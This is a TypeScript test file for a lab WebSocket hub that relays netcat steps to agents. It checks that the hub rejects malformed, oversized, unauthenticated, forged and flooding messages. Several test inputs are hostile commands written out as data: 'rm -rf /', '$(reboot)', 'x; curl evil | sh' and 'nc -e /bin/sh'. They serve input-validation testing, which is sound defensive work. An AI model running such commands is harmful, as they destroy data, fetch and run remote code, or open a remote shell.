/**
 * What the hub refuses, on loopback: malformed JSON, oversized messages and frames, unknown
 * types, a wrong or missing token, a foreign Origin, steps with a bad address or port or a
 * command string in a field, an agent speaking for another machine. Each gets a clear coded
 * error and is counted, nothing reaches the agent, and the connection and the hub stay usable.
 * The rate limit holds, and a wide listener without a token is refused.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startAgent } from '../../../lab/agent/agent.ts';
import type { Agent } from '../../../lab/agent/agent.ts';
import { startHub } from '../../../lab/hub/hub.ts';
import type { Hub } from '../../../lab/hub/hub.ts';
import { browser, connect } from './clients.ts';
import type { TestClient } from './clients.ts';

const TOKEN = 'right-token';
let hub: Hub;
let agent: Agent;
let b: TestClient;

beforeEach(async () => {
  hub = await startHub({ token: TOKEN });
  agent = startAgent({
    hub: hub.url,
    token: TOKEN,
    role: 'bob',
    nc: { variant: 'builtin', keep: true },
  });
  await agent.registered;
  b = await browser(hub.url, TOKEN);
});
afterEach(async () => {
  b.close();
  await agent.stop();
  await hub.stop();
});

/** The connection still answers, and so does a new one. */
async function stillUsable(c: TestClient): Promise<void> {
  c.send({ type: 'ping', id: 'alive' });
  await c.next('pong', (m) => m.id === 'alive');
  const fresh = await browser(hub.url, TOKEN);
  fresh.close();
}

const send = {
  template: 'nc-send',
  from: 'bob',
  port: 58888,
  to: { ip: '127.0.0.1', port: 9000 },
  text: 'toc',
};

describe('refused input', () => {
  const cases: [string, string, string, RegExp][] = [
    ['malformed JSON', '{"type":"step",', 'bad-json', /not JSON/],
    ['an unknown message type', '{"type":"exec","command":"rm -rf /"}', 'unknown-type', /"exec"/],
    [
      'a step with a bad address',
      JSON.stringify({
        type: 'step',
        id: 'a',
        step: { ...send, to: { ip: '300.1.1.1', port: 9000 } },
      }),
      'bad-step',
      /step.to.ip/,
    ],
    [
      'a step with a bad port',
      JSON.stringify({
        type: 'step',
        id: 'a',
        step: { ...send, to: { ip: '127.0.0.1', port: 70000 } },
      }),
      'bad-step',
      /step.to.port/,
    ],
    [
      'a command string as the address',
      JSON.stringify({
        type: 'step',
        id: 'a',
        step: { ...send, to: { ip: '$(reboot)', port: 9000 } },
      }),
      'bad-step',
      /step.to.ip/,
    ],
    [
      'a command string in the text',
      JSON.stringify({ type: 'step', id: 'a', step: { ...send, text: 'x; curl evil | sh' } }),
      'bad-step',
      /step.text/,
    ],
    [
      'a command field',
      JSON.stringify({ type: 'step', id: 'a', step: { ...send, command: 'nc -e /bin/sh' } }),
      'bad-step',
      /step.command is not a field/,
    ],
    [
      'a command string as the template',
      JSON.stringify({ type: 'step', id: 'a', step: { ...send, template: 'bash -c id' } }),
      'bad-step',
      /must name a template/,
    ],
    [
      'an event from a browser',
      JSON.stringify({
        type: 'event',
        event: { type: 'output', t: 0, actor: 'bob', text: 'x', stream: 'stdout' },
      }),
      'not-allowed',
      /register first/,
    ],
  ];
  it.each(cases)(
    '%s: a clear error, nothing run, still usable',
    async (_name, text, code, words) => {
      b.sendRaw(text);
      const e = await b.next('error');
      expect(e.code).toBe(code);
      expect(e.message).toMatch(words);
      expect(hub.counts().refused[code as 'bad-step']).toBe(1);
      expect(hub.counts().stepsForwarded).toBe(0);
      expect(agent.steps()).toBe(0);
      await stillUsable(b);
    },
  );

  it('a message over 16 KiB: too-large, connection kept', async () => {
    b.sendRaw(JSON.stringify({ type: 'ping', id: 'x', pad: 'a'.repeat(20_000) }));
    expect((await b.next('error')).code).toBe('too-large');
    await stillUsable(b);
  });

  it('a frame over 1 MiB closes that connection (1009), the hub goes on', async () => {
    b.sendRaw('a'.repeat(1024 * 1024 + 1));
    expect(await b.closed).toBe(1009);
    b = await browser(hub.url, TOKEN);
    await stillUsable(b);
  });

  it('binary frames are refused', async () => {
    b.sendRaw(Buffer.from([1, 2, 3]));
    expect((await b.next('error')).message).toMatch(/text frames/);
    await stillUsable(b);
  });

  it('a wrong token: unauthorized, nothing allowed, a retry with the right one works', async () => {
    const c = await connect(hub.url);
    c.send({ type: 'hello', protocol: 1, token: 'guess' });
    expect((await c.next('error')).code).toBe('unauthorized');
    c.send({ type: 'subscribe' });
    expect((await c.next('error')).code).toBe('not-authenticated');
    c.send({ type: 'step', id: 'z', step: send });
    expect((await c.next('error')).code).toBe('not-authenticated');
    c.send({ type: 'hello', protocol: 1, token: TOKEN });
    await c.next('welcome');
    c.close();
    expect(agent.steps()).toBe(0);
  });

  it('three wrong tokens close the connection (4401); the hub goes on', async () => {
    const c = await connect(hub.url);
    for (const token of ['a', 'b', 'c']) c.send({ type: 'hello', protocol: 1, token });
    expect(await c.closed).toBe(4401);
    await stillUsable(b);
  });

  it('an agent with a wrong token gives up and says why', async () => {
    const bad = startAgent({
      hub: hub.url,
      token: 'nope',
      role: 'alice',
      nc: { variant: 'builtin', keep: true },
    });
    expect(await bad.gaveUp).toMatch(/refused the token/);
    expect(hub.agents().map((a) => a.role)).toEqual(['bob']);
  });

  it('a foreign Origin is refused at the handshake (403), and counted', async () => {
    await expect(connect(hub.url, { origin: 'https://evil.example' })).rejects.toThrow(/HTTP 403/);
    expect(hub.counts().refused.origin).toBe(1);
    const own = await connect(hub.url, { origin: hub.httpUrl.replace(/\/$/, '') });
    own.close();
    await stillUsable(b);
  });

  it('an agent may not report events as another machine', async () => {
    const fake = await connect(hub.url);
    fake.send({ type: 'hello', protocol: 1, token: TOKEN });
    await fake.next('welcome');
    fake.send({ type: 'register', role: 'alice', nc: { variant: 'builtin', keep: true } });
    await fake.next('registered');
    fake.send({
      type: 'event',
      event: { type: 'output', t: 1, actor: 'server', text: 'forged', stream: 'stdout' },
    });
    expect((await fake.next('error')).code).toBe('bad-event');
    fake.close();
    expect(b.received.some((m) => m.type === 'event')).toBe(false);
  });

  it('the rate limit holds: a flood is cut to the burst, one warning a second, then it recovers', async () => {
    const c = await connect(hub.url);
    for (let i = 0; i < 400; i++) c.send({ type: 'ping', id: `p${i}` });
    c.send({ type: 'ping', id: 'last' });
    const warn = await c.next('error');
    expect(warn.code).toBe('rate-limited');
    await new Promise((r) => setTimeout(r, 300));
    const pongs = c.received.filter((m) => m.type === 'pong').length;
    expect(pongs).toBeGreaterThanOrEqual(100);
    expect(pongs).toBeLessThan(200); // the burst, plus what 50/s refills while the flood arrives
    expect(c.received.filter((m) => m.type === 'error')).toHaveLength(0); // one warning, taken above
    expect(hub.counts().refused['rate-limited']).toBeGreaterThan(250);
    await new Promise((r) => setTimeout(r, 200));
    c.send({ type: 'ping', id: 'later' });
    await c.next('pong', (m) => m.id === 'later');
    c.close();
  });
});

describe('listening wider', () => {
  it('needs a token', async () => {
    await expect(startHub({ host: '0.0.0.0' })).rejects.toThrow(/not loopback\) needs a token/);
  });
});
